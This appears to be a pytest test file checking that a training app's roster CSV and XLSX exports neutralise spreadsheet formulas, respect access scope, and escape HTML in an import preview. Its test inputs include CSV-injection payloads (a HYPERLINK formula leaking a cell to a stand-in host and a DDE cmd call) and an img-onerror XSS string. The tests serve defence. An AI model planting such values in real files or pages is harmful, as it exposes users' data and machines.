"""Roster exports: formulas neutralised in the CSV, never formulas in the XLSX, the same scope as the grid."""
import csv
import io

import pytest
from conftest import login
from openpyxl import load_workbook

from training.exports import neutralise

HOSTILE = ['=HYPERLINK("http://x?"&A1)', "+cmd|' /C calc'!A0", "-1+1", "@SUM(1+1)", "\tTAB", "\rCR"]


@pytest.fixture
def hostile_cohort(client, make_user, make_cohort):
    """A cohort whose trainees chose names that a spreadsheet would run; the client is its trainer."""
    members = [make_user(display_name=name) for name in HOSTILE]
    cohort = make_cohort(members=members, name="=cmd cohort")
    login(client, cohort.trainers[0].username)
    return cohort


@pytest.mark.parametrize("value", HOSTILE)
def test_each_formula_start_gets_a_quote(value):
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["Ann", "", 42, None, "a=b", "\x01=cmd"])
def test_harmless_values_pass_and_control_characters_cannot_uncover_a_formula(value):
    result = neutralise(value)
    assert not (isinstance(result, str) and result.startswith(("=", "+", "-", "@")))


def test_csv_export_neutralises_and_round_trips(client, hostile_cohort):
    response = client.get(f"/cohorts/{hostile_cohort.id}/roster.csv")
    assert response.data.startswith("\ufeff".encode())
    assert f"roster_cohort-{hostile_cohort.id}_" in response.headers["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(response.data.decode("utf-8-sig"), newline="")))
    assert sorted(row["display_name"] for row in rows) == sorted("'" + name for name in HOSTILE)
    assert all(row["username"].startswith("trainee") for row in rows) and rows[0]["certificate"] == "none"


def test_xlsx_export_holds_no_formula_and_needs_no_quote(client, hostile_cohort):
    response = client.get(f"/cohorts/{hostile_cohort.id}/roster.xlsx")
    sheet = load_workbook(io.BytesIO(response.data)).active
    names = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert sorted(name.value for name in names) == sorted(n.replace("\r", "\n") for n in HOSTILE)  # XML: \r is \n
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    assert all(name.data_type == "s" and name.number_format == "@" for name in names)  # text, even when retyped


def test_export_keeps_the_grid_filter(client, hostile_cohort):
    response = client.get(f"/cohorts/{hostile_cohort.id}/roster.csv?status=certified")
    assert response.data.decode("utf-8-sig").count("\r\n") == 1  # the header only


def test_another_organisations_coordinator_gets_404(client, make_user, make_org, make_cohort):
    cohort = make_cohort(members=[make_user(display_name="Secret Person")])
    login(client, make_user("coordinator", organisation_id=make_org().id).username)
    for kind in ("csv", "xlsx"):
        response = client.get(f"/cohorts/{cohort.id}/roster.{kind}")
        assert response.status_code == 404 and b"Secret Person" not in response.data


def test_hostile_display_name_is_escaped_in_the_import_preview(client, make_cohort):
    from test_roster_import import upload

    cohort = make_cohort()
    login(client, cohort.trainers[0].username)
    page = upload(client, cohort, 'username,display_name\nx.y,"<img src=x onerror=alert(1)>"\n').get_data(as_text=True)
    assert "<img src=x" not in page and "&lt;img src=x onerror=alert(1)&gt;" in page
